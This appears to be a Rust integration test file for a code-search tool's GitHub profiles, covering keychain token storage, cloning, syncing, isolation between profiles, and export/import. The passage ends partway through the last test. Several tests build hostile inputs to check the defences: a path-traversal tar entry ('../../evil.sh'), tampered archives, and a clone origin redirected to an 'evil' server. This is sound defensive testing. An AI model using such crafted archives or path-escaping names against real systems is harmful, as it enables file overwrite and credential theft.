//! Profiles end to end with real parts: tokens in the real Secret Service keychain (the test
//! script runs us inside `dbus-run-session` with gnome-keyring unlocked), GitHub's REST API
//! served locally in its documented shapes, and clones over git's own smart HTTP backend.
//!
//! Each test uses its own GitHub user id, so its keychain entry (`ferret` / `gh-<id>`) is
//! its own even though all tests share one keyring. Every test ends by scanning its whole
//! data directory for the tokens it used.

use std::path::{Path, PathBuf};
use std::sync::atomic::AtomicBool;

use ferret_engine::profiles::limits::ProfileLimits;
use ferret_engine::profiles::secrets::{self, Secret};
use ferret_engine::profiles::JobLock;
use ferret_engine::{Engine, ProfileStatus, Profiles, ProfilesOptions, SearchMode, SearchOptions};
use ferret_tests::git_server::{make_bare_repo, push_commit, GitServer};
use ferret_tests::github_server::{
    free_port_refused_url, FixtureRepo, GitHubFixture, GitHubServer,
};
use sha2::{Digest, Sha256};

/// A token shaped like a real classic PAT, unique per test.
fn token_for(user_id: u64) -> String {
    let body = format!("FerretTestToken{user_id}");
    format!("ghp_{body:X<36}")
}

const ALPHA: &[(&str, &str)] = &[
    (
        "src/ledger.rs",
        "/// Sums the entries of a ledger.\npub fn reconcile_ledger(entries: &[i64]) -> i64 {\n    entries.iter().sum()\n}\n",
    ),
    (
        "src/retry.rs",
        "/// Retries a flaky operation with exponential backoff.\npub fn retry_with_backoff(attempts: u32) -> u32 {\n    attempts * 2\n}\n",
    ),
    ("README.md", "# alpha\n\nA ledger service.\n"),
];

/// One GitHub user with bare repositories on a git server and an API that lists them.
struct World {
    _tmp: tempfile::TempDir,
    data: PathBuf,
    git_root: PathBuf,
    git: GitServer,
    api: GitHubServer,
    token: String,
    user_id: u64,
    profiles: Profiles,
}

impl World {
    fn new(user_id: u64, repos: &[(&str, &[(&str, &str)])]) -> World {
        let tmp = tempfile::tempdir().unwrap();
        let data = tmp.path().join("data");
        let git_root = tmp.path().join("git");
        let token = token_for(user_id);
        let git = GitServer::start(&git_root, &token);
        let mut fixture_repos = Vec::new();
        for (full_name, files) in repos {
            let (owner, name) = full_name.split_once('/').unwrap();
            make_bare_repo(&git_root, owner, name, files);
            let mut repo = FixtureRepo::new(owner, name);
            repo.clone_url = git.url(full_name);
            repo.size_kb = 4;
            fixture_repos.push(repo);
        }
        let api = GitHubServer::start(GitHubFixture {
            token: token.clone(),
            user: (user_id, format!("user{user_id}")),
            repos: fixture_repos,
            per_page_cap: 2,
        });
        let profiles = open_profiles(&data);
        World {
            _tmp: tmp,
            data,
            git_root,
            git,
            api,
            token,
            user_id,
            profiles,
        }
    }

    fn profile_id(&self) -> String {
        format!(
            "ghe-127-0-0-1-{}-{}",
            self.api.api_url().rsplit(':').next().unwrap(),
            self.user_id
        )
    }

    fn login(&self) -> String {
        let outcome = self
            .profiles
            .login(Some(&self.api.api_url()), &secret(&self.token))
            .expect("login");
        assert_eq!(outcome.profile.id, self.profile_id());
        outcome.profile.id
    }

    /// Scans every file under the data dir for this world's token.
    fn assert_token_nowhere(&self) {
        assert_no_secret_in(&self.data, &self.token);
    }
}

fn open_profiles(data: &Path) -> Profiles {
    Profiles::open(ProfilesOptions {
        data_root: Some(data.to_path_buf()),
        model_dir: Some(ferret_tests::model_dir()),
        threads: Some(1),
        pool_capacity: 2,
        ..ProfilesOptions::default()
    })
    .expect("open profiles")
}

fn secret(text: &str) -> Secret {
    Secret::new(text.to_string()).unwrap()
}

fn files_under(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for entry in std::fs::read_dir(&d).unwrap().flatten() {
            let t = entry.file_type().unwrap();
            if t.is_dir() {
                stack.push(entry.path());
            } else if t.is_file() {
                out.push(entry.path());
            }
        }
    }
    out
}

fn assert_no_secret_in(dir: &Path, token: &str) {
    let files = files_under(dir);
    assert!(!files.is_empty(), "nothing to scan under {}", dir.display());
    for file in files {
        let bytes = std::fs::read(&file).unwrap();
        assert!(
            !bytes.windows(token.len()).any(|w| w == token.as_bytes()),
            "the token was written to {}",
            file.display()
        );
    }
}

fn lexical(engine: &Engine, query: &str) -> Vec<String> {
    engine
        .search(
            query,
            &SearchOptions {
                limit: 10,
                mode: SearchMode::Lexical,
            },
        )
        .unwrap()
        .hits
        .into_iter()
        .map(|h| format!("{}:{}", h.repo, h.path))
        .collect()
}

fn index_lexical(engine: &Engine, repo: Option<&str>) {
    engine
        .index(repo, &AtomicBool::new(false), true, &|_| {})
        .expect("index");
}

#[test]
fn sign_in_checks_the_token_and_writes_nothing_on_failure() {
    let world = World::new(910_001, &[("acme/alpha", ALPHA)]);
    let id = world.profile_id();
    let registry_ids = |w: &World| -> Vec<String> {
        w.profiles
            .list()
            .unwrap()
            .into_iter()
            .map(|p| p.id)
            .collect()
    };

    // A revoked or mistyped token: 401 with the way out, and nothing anywhere.
    let bad = token_for(999_999);
    let err = world
        .profiles
        .login(Some(&world.api.api_url()), &secret(&bad))
        .unwrap_err()
        .to_string();
    assert!(err.contains("token rejected by GitHub (401)"), "{err}");
    assert!(err.contains("personal-access-tokens/new"), "{err}");
    assert!(!err.contains(&bad), "{err}");
    assert_eq!(registry_ids(&world), ["default"]);
    assert!(secrets::load_token(&id).unwrap().is_none());
    assert!(!world.data.join("user_data").join(&id).exists());

    // Rate limited: the reset time, nothing written.
    world.api.set_rate_limited(true);
    let err = world
        .profiles
        .login(Some(&world.api.api_url()), &secret(&world.token))
        .unwrap_err()
        .to_string();
    assert!(err.contains("rate limit") && err.contains("UTC"), "{err}");
    world.api.set_rate_limited(false);
    assert!(secrets::load_token(&id).unwrap().is_none());

    // Offline.
    let err = world
        .profiles
        .login(Some(&free_port_refused_url()), &secret(&world.token))
        .unwrap_err()
        .to_string();
    assert!(err.contains("cannot reach GitHub"), "{err}");
    assert_eq!(registry_ids(&world), ["default"]);

    // Non-HTTPS API on another host is refused before any request.
    let err = world
        .profiles
        .login(Some("http://github.example.com"), &secret(&world.token))
        .unwrap_err()
        .to_string();
    assert!(err.to_lowercase().contains("https"), "{err}");

    // The real thing.
    let outcome = world
        .profiles
        .login(Some(&world.api.api_url()), &secret(&world.token))
        .unwrap();
    assert!(outcome.created);
    assert_eq!(outcome.user.login, "user910001");
    assert_eq!(world.profiles.resolve(None).unwrap(), id);
    assert_eq!(
        secrets::load_token(&id).unwrap().unwrap().expose(),
        world.token
    );
    // Signing in again reuses the profile.
    assert!(!world.login().is_empty());
    assert!(
        !world
            .profiles
            .login(Some(&world.api.api_url()), &secret(&world.token))
            .unwrap()
            .created
    );
    let events: Vec<String> = world
        .profiles
        .engine(&id)
        .unwrap()
        .audit_log()
        .unwrap()
        .into_iter()
        .map(|e| e.event)
        .collect();
    assert!(
        events.iter().filter(|e| *e == "signin").count() >= 2,
        "{events:?}"
    );

    // Listing repositories walks every page (2 per page here).
    let (client, token) = world.profiles.github(&id).unwrap();
    assert_eq!(client.repos(&token).unwrap().len(), 1);

    // Sign out: the token leaves the keychain; GitHub calls then say how to sign in.
    assert!(world.profiles.logout(&id).unwrap());
    assert!(secrets::load_token(&id).unwrap().is_none());
    let err = world.profiles.github(&id).unwrap_err().to_string();
    assert!(err.contains("ferret login"), "{err}");
    world.assert_token_nowhere();
}

#[test]
fn github_repos_are_listed_across_pages_and_marked() {
    let names = ["acme/a1", "acme/a2", "acme/a3", "beta/b1", "beta/b2"];
    let repos: Vec<(&str, &[(&str, &str)])> = names.iter().map(|n| (*n, ALPHA)).collect();
    let world = World::new(910_002, &repos);
    let id = world.login();
    let (client, token) = world.profiles.github(&id).unwrap();
    let listed: Vec<String> = client
        .repos(&token)
        .unwrap()
        .into_iter()
        .map(|r| r.full_name)
        .collect();
    assert_eq!(listed, names);
    let pages = world
        .api
        .requests()
        .iter()
        .filter(|r| r.contains("/user/repos"))
        .count();
    assert_eq!(pages, 3, "5 repositories at 2 per page");
    world.assert_token_nowhere();
}

#[test]
fn a_github_repo_is_cloned_indexed_synced_and_removed() {
    let world = World::new(910_003, &[("acme/alpha", ALPHA)]);
    let id = world.login();
    let engine = world.profiles.engine(&id).unwrap();
    let cancel = AtomicBool::new(false);

    // Bad identifiers are refused before any network call.
    for bad in ["../etc", "acme", "acme/al pha", "-x/y"] {
        assert!(
            engine.add_github_repo(bad, None, &cancel, &|_| {}).is_err(),
            "{bad} accepted"
        );
    }
    let err = engine
        .add_github_repo("acme/missing", None, &cancel, &|_| {})
        .unwrap_err()
        .to_string();
    assert!(err.contains("not found"), "{err}");

    let seen = std::sync::Mutex::new(0u64);
    let repo = engine
        .add_github_repo("acme/alpha", None, &cancel, &|p| {
            *seen.lock().unwrap() = p.received_objects
        })
        .unwrap();
    assert!(*seen.lock().unwrap() > 0, "clone progress was reported");
    assert_eq!(repo.name, "acme/alpha");
    assert_eq!(repo.branch.as_deref(), Some("main"));
    let clone = world
        .data
        .join("user_data")
        .join(&id)
        .join("repos/acme/alpha");
    assert_eq!(repo.root, clone);
    assert!(clone.join("src/ledger.rs").exists());
    let err = engine
        .add_github_repo("acme/alpha", None, &cancel, &|_| {})
        .unwrap_err()
        .to_string();
    assert!(err.contains("already added"), "{err}");

    index_lexical(&engine, None);
    assert_eq!(
        lexical(&engine, "reconcile_ledger"),
        ["acme/alpha:src/ledger.rs"]
    );

    // Upstream moves on: one file edited, one added, one deleted.
    let bare = world.git_root.join("acme/alpha.git");
    push_commit(
        &bare,
        &[
            (
                "src/ledger.rs",
                Some("pub fn settle_accounts(entries: &[i64]) -> i64 {\n    entries.iter().sum()\n}\n"),
            ),
            ("src/audit.rs", Some("pub fn audit_trail() {}\n")),
            ("src/retry.rs", None),
        ],
        "rework",
    );
    let reports = engine.sync(None, &cancel, &|_, _| {}).unwrap();
    assert_eq!(reports.len(), 1);
    assert_ne!(reports[0].old_head, reports[0].new_head);
    assert_eq!(reports[0].changed_paths, 3);
    let report = engine
        .index(Some("acme/alpha"), &cancel, true, &|_| {})
        .unwrap();
    assert_eq!(report.files_changed, 2, "{report:?}");
    assert_eq!(report.files_removed, 1, "{report:?}");
    assert_eq!(
        lexical(&engine, "settle_accounts"),
        ["acme/alpha:src/ledger.rs"]
    );
    assert!(lexical(&engine, "reconcile_ledger").is_empty());
    assert!(lexical(&engine, "retry_with_backoff").is_empty());
    // A second sync with nothing new changes nothing.
    let again = engine
        .sync(Some("acme/alpha"), &cancel, &|_, _| {})
        .unwrap();
    assert_eq!(again[0].old_head, again[0].new_head);
    assert_eq!(again[0].changed_paths, 0);

    // The token is in no file of the clone (.git/config included) nor anywhere else.
    world.assert_token_nowhere();
    assert!(world.git.request_count() > 0);

    engine.remove_repo("acme/alpha").unwrap();
    assert!(!clone.exists(), "the clone is deleted with the repository");
    assert!(lexical(&engine, "settle_accounts").is_empty());
    let events: Vec<String> = engine
        .audit_log()
        .unwrap()
        .into_iter()
        .map(|e| e.event)
        .collect();
    for event in [
        "signin",
        "repo-added",
        "index",
        "repo-synced",
        "repo-removed",
    ] {
        assert!(events.iter().any(|e| e == event), "{event} in {events:?}");
    }
}

#[test]
fn profiles_are_isolated_from_each_other() {
    let shared: &[(&str, &str)] = &[(
        "lib/shared.rs",
        "pub fn shared_checksum(data: &[u8]) -> u32 {\n    data.iter().map(|b| *b as u32).sum()\n}\n",
    )];
    let world = World::new(910_004, &[("acme/shared", shared), ("acme/alpha", ALPHA)]);
    let gh = world.login();
    let cancel = AtomicBool::new(false);
    let a = world.profiles.engine(&gh).unwrap();
    a.add_github_repo("acme/shared", None, &cancel, &|_| {})
        .unwrap();
    a.add_github_repo("acme/alpha", None, &cancel, &|_| {})
        .unwrap();
    index_lexical(&a, None);

    // Profile B: local, the same shared code plus its own.
    let local = world.profiles.create_local("work-local").unwrap().id;
    let b = world.profiles.engine(&local).unwrap();
    let dir_b = world.data.parent().unwrap().join("b-src");
    std::fs::create_dir_all(dir_b.join("lib")).unwrap();
    std::fs::write(dir_b.join("lib/shared.rs"), shared[0].1).unwrap();
    std::fs::write(
        dir_b.join("lib/billing.rs"),
        "pub fn invoice_customer() {}\n",
    )
    .unwrap();
    b.add_repo(&dir_b, Some("b-src")).unwrap();
    index_lexical(&b, None);

    // Same code in both: each sees only its own copy.
    assert_eq!(
        lexical(&a, "shared_checksum"),
        ["acme/shared:lib/shared.rs"]
    );
    assert_eq!(lexical(&b, "shared_checksum"), ["b-src:lib/shared.rs"]);
    // Different code: invisible to the other.
    assert!(lexical(&a, "invoice_customer").is_empty());
    assert!(lexical(&b, "reconcile_ledger").is_empty());
    let names =
        |e: &Engine| -> Vec<String> { e.repos().unwrap().into_iter().map(|r| r.name).collect() };
    assert_eq!(names(&a), ["acme/alpha", "acme/shared"]);
    assert_eq!(names(&b), ["b-src"]);
    let stats = world.profiles.stats().unwrap();
    let by_id = |id: &str| stats.profiles.iter().find(|p| p.profile.id == id).unwrap();
    assert_eq!(by_id(&gh).repos, 2);
    assert_eq!(by_id(&local).repos, 1);
    assert_eq!(by_id(&local).files, 2);
    assert_eq!(stats.total_repos, 3);
    // The local profile cannot reach GitHub with the other's token.
    let err = world.profiles.github(&local).unwrap_err().to_string();
    assert!(err.contains("local profile"), "{err}");

    // Deleting A leaves B whole and searchable; A's token and files are gone.
    drop(a);
    let report = world.profiles.delete(&gh, false).unwrap();
    assert!(report.keychain_entry_removed);
    assert!(report.bytes_removed > 0);
    assert!(!world.data.join("user_data").join(&gh).exists());
    assert!(secrets::load_token(&gh).unwrap().is_none());
    assert!(world.profiles.engine(&gh).is_err());
    assert_eq!(lexical(&b, "shared_checksum"), ["b-src:lib/shared.rs"]);
    let reopened = open_profiles(&world.data);
    let b2 = reopened.engine(&local).unwrap();
    assert_eq!(lexical(&b2, "invoice_customer"), ["b-src:lib/billing.rs"]);
    let deleted = reopened
        .audit_log(Some(&gh))
        .unwrap()
        .into_iter()
        .any(|e| e.event == "profile-deleted");
    assert!(deleted, "the registry's audit log records the deletion");
    world.assert_token_nowhere();
}

#[test]
fn limits_and_status_are_enforced_before_work_starts() {
    let world = World::new(910_005, &[("acme/alpha", ALPHA), ("acme/beta", ALPHA)]);
    let id = world.login();
    let cancel = AtomicBool::new(false);
    world
        .profiles
        .set_limits(
            &id,
            ProfileLimits {
                max_repos: 1,
                ..ProfileLimits::default()
            },
        )
        .unwrap();
    let engine = world.profiles.engine(&id).unwrap();
    engine
        .add_github_repo("acme/alpha", None, &cancel, &|_| {})
        .unwrap();
    let err = engine
        .add_github_repo("acme/beta", None, &cancel, &|_| {})
        .unwrap_err()
        .to_string();
    assert!(err.contains("limit of 1 repositories"), "{err}");
    assert!(err.contains("holds 1"), "{err}");
    assert!(
        !world
            .data
            .join("user_data")
            .join(&id)
            .join("repos/acme/beta")
            .exists(),
        "refused before cloning"
    );
    let stats = world.profiles.stats_of(&id).unwrap();
    assert!(
        stats
            .warnings
            .iter()
            .any(|w| w.contains("100% of its repos limit")),
        "{:?}",
        stats.warnings
    );

    // A chunk limit stops an index run, keeping what it committed.
    world
        .profiles
        .set_limits(
            &id,
            ProfileLimits {
                max_chunks: 1,
                ..ProfileLimits::default()
            },
        )
        .unwrap();
    let engine = world.profiles.engine(&id).unwrap();
    let err = engine
        .index(None, &cancel, true, &|_| {})
        .unwrap_err()
        .to_string();
    assert!(err.contains("limit of 1 chunks"), "{err}");
    world
        .profiles
        .set_limits(&id, ProfileLimits::default())
        .unwrap();
    let engine = world.profiles.engine(&id).unwrap();
    index_lexical(&engine, None);

    // Read-only: searches work, writes are refused.
    world
        .profiles
        .set_status(&id, ProfileStatus::ReadOnly)
        .unwrap();
    assert_eq!(
        lexical(&engine, "reconcile_ledger"),
        ["acme/alpha:src/ledger.rs"]
    );
    let err = engine
        .index(None, &cancel, true, &|_| {})
        .unwrap_err()
        .to_string();
    assert!(err.contains("read-only"), "{err}");
    assert!(engine.remove_repo("acme/alpha").is_err());
    assert!(engine.sync(None, &cancel, &|_, _| {}).is_err());
    world
        .profiles
        .set_status(&id, ProfileStatus::Active)
        .unwrap();
    engine.sync(None, &cancel, &|_, _| {}).unwrap();

    // Queries are counted (one search above).
    assert_eq!(world.profiles.stats_of(&id).unwrap().queries_run, 1);
    lexical(&engine, "retry");
    assert_eq!(world.profiles.stats_of(&id).unwrap().queries_run, 2);
    world.assert_token_nowhere();
}

#[test]
fn delete_waits_for_running_jobs_and_the_pool_counts() {
    let world = World::new(910_006, &[("acme/alpha", ALPHA)]);
    let id = world.login();
    let paths = world.profiles.engine(&id).unwrap().paths().clone();
    let pool = world.profiles.pool_stats();
    assert!(pool.misses >= 1);
    world.profiles.engine(&id).unwrap();
    assert_eq!(world.profiles.pool_stats().hits, pool.hits + 1);

    // Capacity 2: opening two more profiles evicts the least recently used.
    world.profiles.create_local("p-one").unwrap();
    world.profiles.create_local("p-two").unwrap();
    world.profiles.engine("p-one").unwrap();
    world.profiles.engine("p-two").unwrap();
    assert!(world.profiles.pool_stats().evictions >= 1);
    assert_eq!(world.profiles.pool_stats().open, 2);

    let job = JobLock::acquire(&paths).unwrap();
    let err = world.profiles.delete(&id, false).unwrap_err().to_string();
    assert!(err.contains("job running"), "{err}");
    assert!(paths.root.exists());
    let report = world.profiles.delete(&id, true).unwrap();
    drop(job);
    assert!(report.keychain_entry_removed);
    assert!(!paths.root.exists());
    assert!(secrets::load_token(&id).unwrap().is_none());
    // Unknown and malformed ids.
    assert!(world.profiles.delete("nope", false).is_err());
    assert!(world.profiles.delete("../x", false).is_err());
    assert!(world.profiles.use_profile("../x").is_err());
}

fn hybrid(engine: &Engine, query: &str) -> Vec<String> {
    engine
        .search(
            query,
            &SearchOptions {
                limit: 5,
                mode: SearchMode::Hybrid,
            },
        )
        .unwrap()
        .hits
        .into_iter()
        .map(|h| format!("{}:{}:{}", h.repo, h.path, h.start_line))
        .collect()
}

/// Rewrites an export with `edit` applied to each (name, bytes) entry, keeping the
/// archive's own framing valid (what an attacker or a bad disk could hand us).
fn rewrite_archive(from: &Path, to: &Path, edit: impl Fn(&str, &mut Vec<u8>)) {
    let mut archive = tar::Archive::new(flate2::read::GzDecoder::new(
        std::fs::File::open(from).unwrap(),
    ));
    let out = flate2::write::GzEncoder::new(
        std::fs::File::create(to).unwrap(),
        flate2::Compression::fast(),
    );
    let mut builder = tar::Builder::new(out);
    for entry in archive.entries().unwrap() {
        let mut entry = entry.unwrap();
        let name = entry.path().unwrap().to_string_lossy().into_owned();
        let mut bytes = Vec::new();
        std::io::Read::read_to_end(&mut entry, &mut bytes).unwrap();
        edit(&name, &mut bytes);
        let mut header = tar::Header::new_gnu();
        header.set_size(bytes.len() as u64);
        header.set_mode(0o600);
        header.set_cksum();
        builder.append_data(&mut header, &name, &bytes[..]).unwrap();
    }
    builder.into_inner().unwrap().finish().unwrap();
}

/// Export → delete → import gives the same results and embedding count with nothing
/// re-embedded; the archive never holds the token; tampered, truncated and path-escaping
/// archives are refused and change nothing.
#[test]
fn a_profile_exported_deleted_and_imported_searches_the_same_with_nothing_re_embedded() {
    let w = World::new(
        7301,
        &[(
            "acme/alpha",
            &[
                ("src/retry.rs", "/// Retries a flaky operation with exponential backoff.\npub fn retry_with_backoff(attempts: u32) -> u32 {\n    attempts * 2\n}\n"),
                ("src/ledger.rs", "/// Sums the entries of a ledger.\npub fn reconcile_ledger(entries: &[i64]) -> i64 {\n    entries.iter().sum()\n}\n"),
            ],
        )],
    );
    let id = w.login();
    let engine = w.profiles.engine(&id).unwrap();
    let cancel = AtomicBool::new(false);
    engine
        .add_github_repo("acme/alpha", None, &cancel, &|_| {})
        .unwrap();
    let local = w.data.parent().unwrap().join("notes");
    std::fs::create_dir_all(&local).unwrap();
    std::fs::write(
        local.join("cache.py"),
        "def evict_least_recently_used(cache):\n    \"\"\"Drops the oldest entry when the cache is full.\"\"\"\n    cache.popitem(last=False)\n",
    )
    .unwrap();
    engine.add_repo(&local, Some("notes")).unwrap();
    engine.index(None, &cancel, false, &|_| {}).unwrap();
    let queries = [
        "retry with exponential backoff",
        "drop the oldest cached item",
    ];
    let before: Vec<Vec<String>> = queries.iter().map(|q| hybrid(&engine, q)).collect();
    let embedded = engine.stats().unwrap().embedded_chunks;
    assert!(embedded > 0);
    drop(engine);

    let backup_dir = w.data.parent().unwrap().join("backup");
    std::fs::create_dir_all(&backup_dir).unwrap();
    let archive = backup_dir.join("profile.tar.gz");
    let report = w.profiles.export(&id, &archive).unwrap();
    assert_eq!(report.repos, 2);
    assert_no_secret_in(&backup_dir, &w.token);

    // Refused archives change nothing.
    let refuse = |file: &Path, why: &str| {
        let err = w
            .profiles
            .import(file, Some("restored"), false)
            .unwrap_err()
            .to_string();
        assert!(
            err.contains(why) && err.contains("nothing was changed"),
            "{err}"
        );
        assert!(
            w.profiles.get("restored").is_err(),
            "a refused import registered a profile"
        );
        assert!(!w.data.join("user_data/restored").exists());
    };
    let tampered = backup_dir.join("tampered.tar.gz");
    rewrite_archive(&archive, &tampered, |name, bytes| {
        if name.ends_with("meta.sqlite") {
            let middle = bytes.len() / 2;
            bytes[middle] ^= 0xff;
        }
    });
    refuse(&tampered, "checksum");
    let truncated = backup_dir.join("truncated.tar.gz");
    let whole = std::fs::read(&archive).unwrap();
    std::fs::write(&truncated, &whole[..whole.len() / 2]).unwrap();
    refuse(&truncated, "truncated");
    let escaping = backup_dir.join("escaping.tar.gz");
    {
        let out = flate2::write::GzEncoder::new(
            std::fs::File::create(&escaping).unwrap(),
            flate2::Compression::fast(),
        );
        let mut builder = tar::Builder::new(out);
        let mut header = tar::Header::new_old();
        let name = b"ferret-profile/../../evil.sh";
        header.as_old_mut().name[..name.len()].copy_from_slice(name);
        header.set_size(3);
        header.set_mode(0o600);
        header.set_cksum();
        builder.append(&header, &b"x=1"[..]).unwrap();
        builder.into_inner().unwrap().finish().unwrap();
    }
    refuse(&escaping, "unexpected entry");
    assert!(!w.data.join("evil.sh").exists() && !w.data.parent().unwrap().join("evil.sh").exists());

    // Export → delete → import.
    w.profiles.delete(&id, false).unwrap();
    let imported = w.profiles.import(&archive, None, false).unwrap();
    assert_eq!(imported.profile.id, id);
    assert!(imported.needs_sign_in, "the token was not restored");
    assert_eq!(imported.clones_to_restore, ["acme/alpha"]);
    assert!(imported.missing_local_repos.is_empty());
    // The local folder is there, but an archive may name any folder: it waits for the
    // user's confirmation before it is read again.
    let to_confirm: Vec<(&str, &Path)> = imported
        .local_repos_to_confirm
        .iter()
        .map(|r| (r.name.as_str(), r.root.as_path()))
        .collect();
    let local_root = std::fs::canonicalize(&local).unwrap();
    assert_eq!(to_confirm, [("notes", local_root.as_path())]);
    assert!(imported.settings_reset_for_safety.is_empty());
    let err = w
        .profiles
        .import(&archive, None, false)
        .unwrap_err()
        .to_string();
    assert!(err.contains("--replace"), "{err}");

    let engine = w.profiles.engine(&id).unwrap();
    assert_eq!(engine.stats().unwrap().embedded_chunks, embedded);
    engine.confirm_repo("notes").unwrap();
    let after: Vec<Vec<String>> = queries.iter().map(|q| hybrid(&engine, q)).collect();
    assert_eq!(after, before, "the same results after the round trip");
    let run = engine
        .index(Some("notes"), &cancel, false, &|_| {})
        .unwrap();
    assert_eq!(run.embeddings_computed, 0, "nothing re-embedded");

    // Signed in again, a sync clones the missing repository again; its chunks keep their
    // embeddings (keyed by content), so still nothing is re-embedded.
    w.login();
    let synced = engine
        .sync_and_index(None, &cancel, &|_, _| {}, &|_| {})
        .unwrap();
    assert!(synced.synced[0].recloned, "{synced:?}");
    assert!(engine.repos().unwrap().iter().all(|r| r.root.is_dir()));
    assert_eq!(
        synced
            .indexed
            .iter()
            .map(|r| r.embeddings_computed)
            .sum::<u64>(),
        0
    );
    let again: Vec<Vec<String>> = queries.iter().map(|q| hybrid(&engine, q)).collect();
    assert_eq!(again, before);
    w.assert_token_nowhere();
}

/// One repository that cannot be fetched (gone upstream) does not stop the others: each
/// failure is reported once and the rest are synced and indexed.
#[test]
fn one_failing_clone_does_not_stop_sync_of_the_others() {
    let w = World::new(7302, &[("acme/alpha", ALPHA), ("acme/beta", ALPHA)]);
    let id = w.login();
    let engine = w.profiles.engine(&id).unwrap();
    let cancel = AtomicBool::new(false);
    for name in ["acme/alpha", "acme/beta"] {
        engine
            .add_github_repo(name, None, &cancel, &|_| {})
            .unwrap();
    }
    index_lexical(&engine, None);
    // alpha disappears upstream; beta gets a commit.
    let alpha = w.git_root.join("acme/alpha.git");
    std::fs::rename(&alpha, w.git_root.join("acme/alpha-gone.git")).unwrap();
    push_commit(
        &w.git_root.join("acme/beta.git"),
        &[("src/late.rs", Some("pub fn arrived_in_beta() {}\n"))],
        "late",
    );
    let run = engine
        .sync_and_index(None, &cancel, &|_, _| {}, &|_| {})
        .unwrap();
    let by_name = |n: &str| run.synced.iter().find(|r| r.repo == n).unwrap().clone();
    assert!(by_name("acme/alpha").error.is_some(), "{run:?}");
    let beta = by_name("acme/beta");
    assert!(
        beta.error.is_none() && beta.old_head != beta.new_head,
        "{run:?}"
    );
    let failures = run.failures().unwrap();
    assert!(
        failures.contains("acme/alpha") && failures.contains("1 of 2"),
        "{failures}"
    );
    assert!(lexical(&engine, "arrived_in_beta")
        .iter()
        .any(|h| h.ends_with("src/late.rs")));
    w.assert_token_nowhere();
}

/// Sync fetches from the URL stored when the repository was added: an `origin` rewritten
/// in the clone's `.git/config` (by anything on the machine) never receives the token.
#[test]
fn sync_uses_the_stored_url_not_the_clones_origin() {
    let w = World::new(7303, &[("acme/alpha", ALPHA)]);
    let id = w.login();
    let engine = w.profiles.engine(&id).unwrap();
    let cancel = AtomicBool::new(false);
    let repo = engine
        .add_github_repo("acme/alpha", None, &cancel, &|_| {})
        .unwrap();
    let evil_root = w.data.parent().unwrap().join("evil");
    make_bare_repo(&evil_root, "acme", "alpha", ALPHA);
    let evil = GitServer::start(&evil_root, &w.token);
    git2::Repository::open(&repo.root)
        .unwrap()
        .remote_set_url("origin", &evil.url("acme/alpha"))
        .unwrap();
    let head = push_commit(
        &w.git_root.join("acme/alpha.git"),
        &[("src/fresh.rs", Some("pub fn fresh() {}\n"))],
        "fresh",
    );
    let reports = engine.sync(None, &cancel, &|_, _| {}).unwrap();
    assert_eq!(reports[0].new_head, head, "fetched from the stored URL");
    assert_eq!(
        evil.request_count(),
        0,
        "the rewritten origin was contacted"
    );
    w.assert_token_nowhere();
}

/// Rewrites an export the way anyone with `tar` and `sqlite3` could: `edit` changes the
/// unpacked files in a directory (`meta.sqlite`, `config.json`, `manifest.json`), then the
/// manifest's sizes and checksums are recomputed, so every check of the archive's own
/// framing passes and only what the files say can give them away.
fn craft_archive(from: &Path, to: &Path, edit: impl FnOnce(&Path)) {
    let dir = tempfile::tempdir().unwrap();
    let mut archive = tar::Archive::new(flate2::read::GzDecoder::new(
        std::fs::File::open(from).unwrap(),
    ));
    for entry in archive.entries().unwrap() {
        let mut entry = entry.unwrap();
        let name = entry.path().unwrap().to_string_lossy().into_owned();
        let base = name.strip_prefix("ferret-profile/").unwrap().to_string();
        entry.unpack(dir.path().join(base)).unwrap();
    }
    edit(dir.path());
    let manifest_file = dir.path().join("manifest.json");
    let mut manifest: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&manifest_file).unwrap()).unwrap();
    let mut files = Vec::new();
    for name in ["meta.sqlite", "config.json"] {
        if let Ok(bytes) = std::fs::read(dir.path().join(name)) {
            files.push(serde_json::json!({
                "name": name,
                "bytes": bytes.len(),
                "sha256": format!("{:x}", Sha256::digest(&bytes)),
            }));
        }
    }
    manifest["files"] = serde_json::Value::Array(files);
    std::fs::write(
        &manifest_file,
        serde_json::to_vec_pretty(&manifest).unwrap(),
    )
    .unwrap();
    let out = flate2::write::GzEncoder::new(
        std::fs::File::create(to).unwrap(),
        flate2::Compression::fast(),
    );
    let mut builder = tar::Builder::new(out);
    for name in ["manifest.json", "meta.sqlite", "config.json"] {
        let Ok(bytes) = std::fs::read(dir.path().join(name)) else {
            continue;
        };
        let mut header = tar::Header::new_gnu();
        header.set_size(bytes.len() as u64);
        header.set_mode(0o600);
        header.set_cksum();
        builder
            .append_data(&mut header, format!("ferret-profile/{name}"), &bytes[..])
            .unwrap();
    }
    builder.into_inner().unwrap().finish().unwrap();
}

/// A change to an unpacked export (see [`craft_archive`]).
type ArchiveEdit<'a> = Box<dyn Fn(&Path) + 'a>;

/// Runs `sql` on the database of an unpacked export (see [`craft_archive`]).
fn edit_db(dir: &Path, sql: &str) {
    rusqlite::Connection::open(dir.join("meta.sqlite"))
        .unwrap()
        .execute_batch(sql)
        .unwrap();
}

/// What a profile holds, as a user would check it: its repositories and a search.
fn holdings(profiles: &Profiles, id: &str) -> (Vec<(String, PathBuf)>, Vec<String>) {
    let engine = profiles.engine(id).unwrap();
    let repos = engine
        .repos()
        .unwrap()
        .into_iter()
        .map(|r| (r.name, r.root))
        .collect();
    (repos, lexical(&engine, "evict_least_recently_used"))
}

/// Crafted archives (issue 25): rows that point outside the profile, a smuggled trigger,
/// a truncated database, names with terminal escapes and an unusable API URL are refused
/// with a clear error, and an existing profile they would replace is left as it was;
/// settings that run programs, load libraries, open files without asking or index
/// credentials are reset and named; local folders (even `/`) wait for confirmation; a
/// stored clone URL is dropped and the clone's folder is the profile's own.
#[test]
fn crafted_archives_are_refused_or_defused_and_nothing_is_lost() {
    let tmp = tempfile::tempdir().unwrap();
    let home = tmp.path().join("home");
    // The default layout: six `..` from a clone's folder lead to the home directory.
    let data = home.join(".local/share/ferret");
    std::fs::create_dir_all(&home).unwrap();
    std::fs::write(home.join("keep.txt"), "mine").unwrap();
    let notes = home.join("code/notes");
    std::fs::create_dir_all(&notes).unwrap();
    std::fs::write(
        notes.join("cache.py"),
        "def evict_least_recently_used(cache):\n    cache.popitem(last=False)\n",
    )
    .unwrap();
    let profiles = open_profiles(&data);
    for id in ["source", "keeper"] {
        profiles.create_local(id).unwrap();
